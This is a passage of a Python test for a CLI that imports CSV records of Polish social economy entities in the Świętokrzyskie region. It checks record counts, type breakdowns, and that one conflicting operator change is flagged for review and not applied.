    result = run_cli(settings, "import", entities / "pes_swietokrzyskie_uzupelnienie.csv", "--reports", tmp_path,
                     "--mapping", mappings / "pes_swietokrzyskie_uzupelnienie.csv")
    assert result.exit_code == 0, result.output
    assert "dodano 33, zmieniono 0" in result.output
    result = run_cli(settings, "import", entities / "pes_swietokrzyskie_uzupelnienie_istniejacych.csv", "--reports",
                     tmp_path, "--mapping", mappings / "pes_swietokrzyskie_uzupelnienie_istniejacych.csv")
    assert result.exit_code == 0, result.output
    out = read_table(record).drop(columns="row").set_index("id")
    new = out[out.index.str.startswith("swk-n")]
    assert len(new) == 33 and new["sources"].str.startswith("http").all()
    assert new["types"].value_counts().to_dict() == {"kgw": 17, "wtz": 7, "ngo": 6, "spoldzielnia_socjalna": 2,
                                                     "inne": 1}
    assert out.loc["swk-027", "operator"] == before.loc["swk-027", "operator"]     # flagged, not applied
    review = pd.read_csv(tmp_path / "pes_swietokrzyskie_uzupelnienie_istniejacych.do_przegladu.csv",
                         dtype=str, encoding="utf-8-sig")
    assert review[["id", "column"]].values.tolist() == [["swk-027", "operator"]]
